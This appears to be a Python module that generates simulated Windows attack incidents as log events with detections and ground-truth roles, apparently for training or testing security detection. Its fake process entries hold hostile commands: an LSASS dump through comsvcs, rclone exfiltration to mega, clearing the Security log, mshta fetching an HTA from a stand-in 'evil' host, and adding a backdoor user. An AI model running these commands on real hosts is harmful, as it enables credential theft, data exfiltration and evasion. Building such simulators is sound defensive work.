"""Incidents on Windows hosts."""

from __future__ import annotations

from datetime import timedelta

from steps import CMD, PS, SYS, M, S, begin, dump, implant, own, remote
from world import Truth, World


def lateral(w: World, t: Truth) -> None:
    r = w.rng
    dormant = r.random() < 0.45
    second = r.choice([*w.svcs, "Administrator"]) if dormant else r.choice(w.admins)
    at, _ = begin(w, frozenset({second}) if dormant else frozenset())
    user = r.choice(w.users)
    host = w.ws[user]
    own(w, user, at)
    if not dormant:
        base = r.choice([w.ws[u] for u in w.users if u != user])
        w.logon(at - timedelta(minutes=r.randint(40, 200)), second, base, kind="2")
        w.proc(at - timedelta(minutes=r.randint(20, 39)), base, second, SYS + "mmc.exe", "mmc dsa.msc")
    implant(w, at, user, host)
    t.roles[user] = "compromised"
    at += timedelta(minutes=r.randint(3, 40))
    if r.random() < 0.8:
        dump(w, at, user, host)
    at += timedelta(minutes=r.randint(2, 30))
    places = r.sample([*w.servers, w.dc], r.randint(1, 3))
    for dst in places:
        remote(w, at, second, host, dst, ntlm=r.random() < 0.4, by=user)
        at += timedelta(minutes=r.randint(2, 20))
    t.roles[second] = "attacker" if dormant else "compromised"
    if r.random() < 0.4:
        new = r.choice(["helpdesk2", "svc_update", "backupadm", "supp0rt"])
        eid = w.change(at, w.dc, second, new, "4720", "create")
        w.hit(eid, "User created", r.choice(["low", "medium"]), ["T1136.002"], ["persistence"], 0.7)
        eid = w.change(at + 20 * S, w.dc, second, new, "4728", "add", group="Domain Admins")
        w.hit(eid, "Added to domain admins", "high", ["T1098"], ["persistence"], 0.8)
        if w.sources["security"]:
            t.roles[new] = "created"
        if r.random() < 0.5:
            remote(w, at + 5 * M, new, host, w.servers[0])
            t.roles[new] = "created"
    elif r.random() < 0.4 and w.sources["security"]:
        # An account of somebody else is given power, or a new password, and is not used.
        other = r.choice([u for u in [*w.users, *w.svcs] if u not in t.roles])
        if r.random() < 0.5:
            eid = w.change(at, w.dc, second, other, "4728", "add_member", group="Domain Admins")
            w.hit(eid, "Added to domain admins", "high", ["T1098"], ["persistence"], 0.8)
        else:
            eid = w.change(at, w.dc, second, other, "4724", "reset_password")
            w.hit(eid, "Password reset", r.choice(["low", "medium"]), ["T1098"], ["persistence"], 0.6)
        t.roles[other] = "targeted"


def credential_theft(w: World, t: Truth) -> None:
    at, _ = begin(w)
    user = w.rng.choice(w.users)
    local = w.rng.random() < 0.25
    host = w.ws[user]
    if local:
        w.logon(at - 20 * M, "localadm", host, kind="2", domain=host)
        w.proc(at - 15 * M, host, "localadm", SYS + "mmc.exe", "mmc", domain=host)
        ids, _ = w.proc(
            at,
            host,
            "localadm",
            SYS + "rundll32.exe",
            "rundll32 comsvcs.dll, MiniDump 1 x full",
            parent=PS,
            domain=host,
        )
        w.hit(ids, "LSASS dump through comsvcs", "high", ["T1003.001"], ["credential-access"])
        t.roles["localadm"] = "compromised"
        return
    own(w, user, at)
    implant(w, at, user, host)
    dump(w, at + 6 * M, user, host)
    t.roles[user] = "compromised"


def insider(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = begin(w)
    user = r.choice(w.users)
    host = w.ws[user]
    own(w, user, at)
    for i in range(r.randint(2, 5)):
        w.logon(at + i * M, user, w.servers[0], src=host)
    ids, _ = w.proc(at + 5 * M, host, user, "C:\\Tools\\7z.exe", "7z a -pX x.7z \\\\FS01\\finance", parent=CMD)
    w.hit(ids, "Archive with password", "medium", ["T1560.001"], ["collection"], 0.9)
    ids, _ = w.proc(at + 9 * M, host, user, "C:\\Tools\\rclone.exe", "rclone copy x.7z mega:x", parent=CMD)
    w.hit(ids, "Rclone", r.choice(["high", "medium"]), ["T1567.002"], ["exfiltration"], 0.9)
    ids, _ = w.proc(at + 12 * M, host, user, SYS + "wevtutil.exe", "wevtutil cl Security", parent=CMD)
    w.hit(ids, "Log cleared", "high", ["T1070.001"], ["defense-evasion"], 0.8)
    t.roles[user] = "compromised"


def phishing(w: World, t: Truth) -> None:
    r = w.rng
    at, _ = begin(w)
    user = r.choice(w.users)
    host = w.ws[user]
    own(w, user, at)
    ids, uid = w.proc(
        at, host, user, SYS + "mshta.exe", "mshta http://evil/x.hta", parent="C:\\Program Files\\outlook.exe"
    )
    w.hit(ids, "Mshta with a URL", "high", ["T1218.005"], ["defense-evasion"], 0.9)
    implant(w, at + M, user, host)
    eid = w.add(
        at + 2 * M,
        "sysmon",
        class_name="registry_activity",
        log_product="windows",
        log_service="sysmon",
        log_category="registry_set",
        event_code="13",
        device_name=host,
        process_path=PS,
        process_uid=uid,
        registry_path="HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\u",
        actor_name=user if r.random() < 0.5 else None,
        actor_domain=w.domain,
    )
    w.hit(eid, "Run key", "medium", ["T1547.001"], ["persistence"], 0.8)
    t.roles[user] = "compromised"
    if r.random() < 0.4:
        new = r.choice(["updater", "defaultuser1", "hlpdsk"])
        ids, _ = w.proc(at + 8 * M, host, user, SYS + "net.exe", f"net user {new} Passw0rd! /add", parent=CMD)
        w.hit(ids, "net user add", "medium", ["T1136.001"], ["persistence"], 0.9)
        if w.rules["net user add"]["on"]:
            t.roles[new] = "created"
        eid = w.add(
            at + 8 * M + S,
            "security",
            class_name="account_change",
            activity="create",
            log_product="windows",
            log_service="security",
            event_code="4720",
            device_name=host,
            actor_name=user,
            actor_domain=w.domain,
            actor_session=w.session(host, user),
            user_name=new,
            user_domain=host,
        )
        if eid:
            t.roles[new] = "created"


def kerberoast(w: World, t: Truth) -> None:
    r = w.rng
    victim = r.choice(w.svcs)
    use, dormant = r.random() < 0.5, r.random() < 0.5
    at, _ = begin(w, frozenset({victim}) if dormant else frozenset())
    user = r.choice(w.users)
    host = w.ws[user]
    own(w, user, at)
    implant(w, at, user, host)
    t.roles[user] = "compromised"
    ids, names = [], r.sample(w.svcs, r.randint(1, 3))
    if victim not in names:
        names.append(victim)
    for i, s in enumerate(names):
        eid = w.add(
            at + 5 * M + i * S,
            "logons",
            class_name="authentication",
            activity="ticket",
            outcome="success",
            log_product="windows",
            log_service="security",
            event_code="4769",
            device_name=w.dc,
            user_name=f"{user}@{w.fqdn.upper()}",
            user_domain=w.fqdn.upper(),
            src_ip="::ffff:" + w.ips[host],
            service_name=s,
            native={"ServiceName": s, "TicketEncryptionType": "0x17"},
        )
        ids.append(eid)
        if eid:
            t.roles[s] = "targeted"
    w.hit(ids, "Kerberoasting", r.choice(["high", "medium"]), ["T1558.003"], ["credential-access"], 0.95)
    if not w.rules["Kerberoasting"]["on"]:
        for s in names:
            t.roles.pop(s, None)
    if use:
        if not dormant:
            w.logon(at - 60 * M, victim, w.servers[1], kind="5")
            w.logon(at - 50 * M, victim, w.servers[1], kind="3", src=w.servers[2])
        remote(w, at + 25 * M, victim, host, r.choice([*w.servers, w.dc]), by=user)
        t.roles[victim] = "attacker" if dormant else "compromised"


def dcsync(w: World, t: Truth) -> None:
    r = w.rng
    dormant = r.random() < 0.4
    user = r.choice(w.svcs) if dormant else r.choice(w.admins)
    at, _ = begin(w, frozenset({user}) if dormant else frozenset())
    src = r.choice(list(w.ws.values()))
    if not dormant:
        base = r.choice([h for h in w.ws.values() if h != src])
        w.logon(at - 70 * M, user, base, kind="2")
        w.proc(at - 60 * M, base, user, SYS + "mmc.exe", "mmc")
    session = w.new_session(w.dc, user)
    w.logon(at, user, w.dc, src=src, session=session)
    ids = [
        w.add(
            at + i * S,
            "security",
            class_name="directory_service_activity",
            activity="read",
            outcome="success",
            log_product="windows",
            log_service="security",
            event_code="4662",
            device_name=w.dc,
            actor_name=user,
            actor_domain=w.domain,
            actor_session=session,
            actor_uid=w.sid(user),
            resource="DC=corp",
            native={"Properties": "{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}"},
        )
        for i in range(3)
    ]
    w.hit(ids, "DCSync", r.choice(["high", "critical"]), ["T1003.006"], ["credential-access"])
    if any(ids):
        t.roles["krbtgt"] = "targeted"
        t.roles[user] = "attacker" if dormant else "compromised"
    if r.random() < 0.4:
        remote(w, at + 30 * M, user, src, r.choice(w.servers))
        t.roles[user] = "attacker" if dormant else "compromised"
